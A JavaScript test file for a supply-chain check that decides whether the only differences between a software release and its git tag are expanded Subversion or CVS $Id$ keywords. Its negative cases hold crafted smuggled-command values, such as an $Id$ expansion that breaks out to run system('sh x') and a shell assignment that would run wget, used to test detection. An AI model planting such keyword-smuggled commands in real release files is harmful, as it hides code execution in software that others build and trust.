import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { vcsKeywords } from '../../src/analyze/rules/vcs-keywords.js';
import { context, modified } from './generated-context.js';

/**
 * Files a release exported from Subversion or CVS has with their keywords
 * expanded, where the git conversion of the repository keeps them bare.
 */

const tagged = '/*\n   function: dump the tables\n   last mod: $Id$\n */\n#define ATACMDS_H_CVSID "$Id$"\nint x;\n';
const exported = tagged
  .replace('last mod: $Id$', 'last mod: $Id: vp3huff.c 14078 2007-10-31 21:24:44Z giles $')
  .replace('"$Id$"', '"$Id: atacmds.h 5166 2021-01-15 18:02:19Z chrfranke $"');

test('keywords Subversion or CVS expanded at export are all that differ: explained as version stamps', async () => {
  const j = await vcsKeywords.judge(modified('atacmds.h', exported), context({ 'atacmds.h': tagged }));
  assert.is(j?.category, 'version-stamp');
  assert.is(j?.severity, 'low');
  assert.match(j!.reasons[0]!, 'the release has 2 expanded ($Id$), as Subversion or CVS writes them at export, where the tag has them bare');
  // CVS's own shapes, and a tag that keeps older expansions of its own.
  const cvs = '# $Header: /cvsroot/proj/src/Makefile.am,v 1.12 2003/05/01 10:00:00 jdoe Exp $\n# $Revision: 1.12 $\nall:\n';
  const older = cvs.replace('1.12 2003/05/01', '1.11 2003/04/01').replace('$Revision: 1.12 $', '$Revision$');
  const c = await vcsKeywords.judge(modified('src/Makefile.am', cvs), context({ 'src/Makefile.am': older }));
  assert.match(c!.reasons[0]!, 'the release has 2 expanded ($Header$, $Revision$), as Subversion or CVS writes them at export, where the tag has other expansions');
});

test('anything else changed, an expansion that could end its string or comment, or an unknown keyword: not explained', async () => {
  for (const release of [
    exported.replace('int x;', 'int x = 1;'),
    tagged.replace('"$Id$"', '"$Id: a.h 1 2021-01-15 18:02:19Z x"; system("sh x"); "$"'),
    tagged.replace('last mod: $Id$', 'last mod: $Id: a.c 1 */ hook(); /* $'),
    tagged.replace('last mod: $Id$', 'last mod: $Id: a.c 1\nhook();\n$'),
    tagged.replace('last mod: $Id$', 'last mod: $Hook: a.c 1 $'),
  ]) {
    assert.is(await vcsKeywords.judge(modified('atacmds.h', release), context({ 'atacmds.h': tagged })), undefined, release);
  }
  assert.is(await vcsKeywords.judge(modified('atacmds.h', tagged), context({ 'atacmds.h': tagged })), undefined, 'nothing expanded');
  // In a file the build runs, only on a comment line: unquoted in a shell assignment, the word after it would run.
  const script = '#!/bin/sh\n# $Id$\nREV=$Id$\necho "$REV"\n';
  const commented = script.replace('# $Id$', '# $Id: gen.sh 12 2021-01-15 18:02:19Z jdoe $');
  assert.is((await vcsKeywords.judge(modified('gen.sh', commented), context({ 'gen.sh': script })))?.severity, 'low');
  const assigned = script.replace('REV=$Id$', 'REV=$Id: wget -q example.org/x $');
  assert.is(await vcsKeywords.judge(modified('gen.sh', assigned), context({ 'gen.sh': script })), undefined);
  // Quoted on its own it stays a string (smartmontools' configure.ac: smartmontools_cvs_tag=`echo '$Id$'`).
  const quotedTag = "#!/bin/sh\nTAG=`echo '$Id$'`\n";
  // (Replaced by a function: in a replacement string, $' would stand for the text after the match.)
  const quoted = quotedTag.replace("'$Id$'", () => "'$Id: configure.ac 5338 2022-02-28 16:34:26Z chrfranke $'");
  assert.is((await vcsKeywords.judge(modified('configure.ac', quoted), context({ 'configure.ac': quotedTag })))?.severity, 'low');
  assert.is(await vcsKeywords.judge(modified('configure.ac', quoted.replace("'$Id: ", () => "' $Id: ")), context({ 'configure.ac': quotedTag.replace("'$Id$'", () => "' $Id$'") })), undefined, 'not alone in its quotes');
  // A template is judged by what it makes: a man page's, a script's.
  const page = '.ig\n$Id$\n..\n.TH SMARTCTL 8\n';
  assert.is((await vcsKeywords.judge(modified('smartctl.8.in', page.replace('$Id$', '$Id: smartctl.8.in 5333 2022-02-26 00:15:22Z dpgilbert $')), context({ 'smartctl.8.in': page })))?.severity, 'low');
  assert.is(await vcsKeywords.judge(modified('gen.sh.in', assigned), context({ 'gen.sh.in': script })), undefined);
});

test.run();
